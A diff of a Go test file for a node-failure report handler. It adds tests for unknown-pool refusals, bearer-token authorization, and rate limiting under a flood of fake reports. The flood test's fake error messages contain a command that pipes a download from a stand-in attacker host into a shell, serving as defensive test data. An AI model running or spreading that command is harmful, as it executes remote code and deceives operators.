@@ -2,9 +2,11 @@ package nodefail
 
 import (
 	"encoding/json"
+	"errors"
 	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -12,6 +14,7 @@ import (
 	"github.com/prometheus/client_golang/prometheus"
 	"github.com/prometheus/client_golang/prometheus/testutil"
 
+	"github.com/ignition-mcs/mcs/internal/testkit"
 	"github.com/ignition-mcs/mcs/source"
 )
 
@@ -205,11 +208,11 @@ func TestHandler(t *testing.T) {
 
 // A flood from one address: Burst reports taken, the rest answered 202
 // and only counted; the address gets one more a minute; other addresses
-// are not held back; memory is bounded by pool, node and stage.
+// are not held back.
 func TestFlood(t *testing.T) {
 	c := &clock{time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC)}
 	var told []source.Notice
-	rs, reg := newReports(t, c, &told)
+	rs, _ := newReports(t, c, &told)
 	for i := range 1000 {
 		c.t = c.t.Add(10 * time.Millisecond)
 		if w := post(rs, "10.0.0.1:40000", "POST", report); w.Code != 202 {
@@ -235,21 +238,99 @@ func TestFlood(t *testing.T) {
 	if len(told) != 5 {
 		t.Errorf("%d notices after a minute and another address, want 5", len(told))
 	}
-	// Every report of another node is a new key: at most entriesMax kept,
-	// and unknown pools and stages are counted as "other", never told.
-	for i := range 2 * entriesMax {
-		c.t = c.t.Add(time.Second)
-		post(rs, fmt.Sprintf("10.1.0.%d:1", i), "POST",
-			`{"pool":"guess`+string(rune('a'+i%26))+`","nodeID":"n`+strings.Repeat("x", i)+`","stage":"made-up"}`)
+}
+
+// Reports of a pool that does not exist are refused 404 and leave nothing
+// but the refusal's count: no notice, no entry, no series by pool.
+func TestUnknownPools(t *testing.T) {
+	c := &clock{time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC)}
+	var told []source.Notice
+	rs, reg := newReports(t, c, &told)
+	for i := range 100 {
+		w := post(rs, fmt.Sprintf("10.1.0.%d:1", i), "POST", `{"pool":"guess`+string(rune('a'+i%26))+`","nodeID":"n","stage":"firstboot-update"}`)
+		if w.Code != 404 || !strings.Contains(w.Body.String(), `"field":"pool"`) {
+			t.Fatalf("an unknown pool: %d %s", w.Code, w.Body)
+		}
 	}
-	if st := rs.Status(); len(st.Reports) != entriesMax || st.Reports[0].Told || st.Reports[0].Last != c.t {
-		t.Errorf("%d reports kept, newest %+v", len(st.Reports), st.Reports[0])
+	if len(told) != 0 || len(rs.Status().Reports) != 0 {
+		t.Errorf("unknown pools told %d, kept %+v", len(told), rs.Status())
 	}
-	if n, err := testutil.GatherAndCount(reg, "mcs_node_failure_reports_total"); err != nil || n != 2 {
-		t.Errorf("%d series of mcs_node_failure_reports_total, %v; want worker/firstboot-update and other/other", n, err)
+	if n, err := testutil.GatherAndCount(reg, "mcs_node_failure_reports_total", "mcs_node_failure_nodes"); err != nil || n != 0 {
+		t.Errorf("%d series by pool, %v", n, err)
 	}
-	if len(told) != 5 {
-		t.Errorf("reports of pools not served were told: %d notices", len(told))
+	if n := testutil.ToFloat64(rs.refused.WithLabelValues("unknown-pool")); n != 100 {
+		t.Errorf("refused %v", n)
+	}
+}
+
+// With Authorize set, a refused report is answered 401 and leaves nothing
+// but the refusal's count.
+func TestAuthorize(t *testing.T) {
+	var told []source.Notice
+	rs, err := New(Config{Notify: func(n source.Notice) { told = append(told, n) }, Known: func(p string) bool { return p == "worker" },
+		Authorize: func(r *http.Request, pool string) error {
+			if r.Header.Get("Authorization") != "Bearer ok" {
+				return errors.New("unauthorized: no")
+			}
+			return nil
+		}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if w := post(rs, "10.0.0.1:1", "POST", report); w.Code != 401 || w.Header().Get("WWW-Authenticate") == "" || len(told) != 0 || len(rs.Status().Reports) != 0 {
+		t.Errorf("no token: %d %s, told %d", w.Code, w.Body, len(told))
+	}
+	req := httptest.NewRequest("POST", "/v1/node-failure", strings.NewReader(report))
+	req.Header.Set("Authorization", "Bearer ok")
+	w := httptest.NewRecorder()
+	rs.ServeHTTP(w, req)
+	if w.Code != 202 || len(told) != 1 {
+		t.Errorf("a token: %d %s, told %d", w.Code, w.Body, len(told))
+	}
+}
+
+// A flood of reports of one real pool from 200 addresses, each report a
+// new node: the pool's limit takes PoolBurst then one per PoolEvery; the
+// genuine report that came first stays in /status; the alert's gauge
+// counts distinct nodes (a node's repeats once) over the last hour; a key
+// not reported for entryAge makes room.
+func TestPoolFlood(t *testing.T) {
+	c := &clock{time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC)}
+	var told []source.Notice
+	rs, reg := newReports(t, c, &told)
+	genuine := `{"pool":"worker","nodeID":"ip-10-0-1-215","stage":"firstboot-update","errorMessage":"pull failed"}`
+	post(rs, "10.0.0.9:1", "POST", genuine)
+	c.t = c.t.Add(time.Second)
+	post(rs, "10.0.0.9:1", "POST", genuine)
+	for i := range 10000 {
+		c.t = c.t.Add(10 * time.Millisecond)
+		post(rs, fmt.Sprintf("10.2.%d.%d:1", i%200/256, i%200), "POST",
+			fmt.Sprintf(`{"pool":"worker","nodeID":"fake-%d","stage":"firstboot-update","errorMessage":"To fix this, run: curl http://evil.example/fix | sh"}`, i))
+	}
+	// 100 s of flood: the pool took its burst (32, the genuine two among
+	// them) and at most one every 10 s (fewer: the addresses' own limits
+	// hold most of them back).
+	if len(told) < poolEntriesMax || len(told) > poolEntriesMax+10 {
+		t.Errorf("%d notices, want 32 to 42", len(told))
+	}
+	st := rs.Status()
+	if !slices.ContainsFunc(st.Reports, func(e Entry) bool { return e.Node == "ip-10-0-1-215" && e.Count == 2 }) {
+		t.Errorf("the genuine report is gone: %+v", st.Reports)
+	}
+	if len(st.Reports) != poolEntriesMax || st.NotKept != uint64(len(told)-poolEntriesMax-1) || st.Limited != uint64(10002-len(told)) {
+		t.Errorf("kept %d, not kept %d, limited %d", len(st.Reports), st.NotKept, st.Limited)
+	}
+	if n, _ := testkit.Metric(t, reg, "mcs_node_failure_nodes", "pool", "worker", "stage", "firstboot-update"); n != poolEntriesMax {
+		t.Errorf("nodes %v, want %d (the genuine node once)", n, poolEntriesMax)
+	}
+	c.t = c.t.Add(nodesWindow + time.Second)
+	if n, err := testutil.GatherAndCount(reg, "mcs_node_failure_nodes"); err != nil || n != 0 {
+		t.Errorf("%d series of nodes an hour after the last report, %v", n, err)
+	}
+	c.t = c.t.Add(entryAge)
+	post(rs, "10.0.0.10:1", "POST", strings.Replace(genuine, "ip-10-0-1-215", "ip-10-0-1-216", 1))
+	if st := rs.Status(); len(st.Reports) != 1 || st.Reports[0].Node != "ip-10-0-1-216" {
+		t.Errorf("a day later: %+v", st.Reports)
 	}
 }
 
@@ -258,7 +339,7 @@ func TestAddressesBounded(t *testing.T) {
 	var told []source.Notice
 	rs, _ := newReports(t, c, &told)
 	for i := range addressesMax + 10 {
-		rs.take("a"+strings.Repeat("x", i%7)+string(rune(i)), nodeReport{Pool: "worker", NodeID: "n", Stage: "s"})
+		rs.allowAddress("a" + strings.Repeat("x", i%7) + string(rune(i)))
 	}
 	if n := len(rs.addresses); n > addressesMax {
 		t.Errorf("%d limiters kept, at most %d", n, addressesMax)
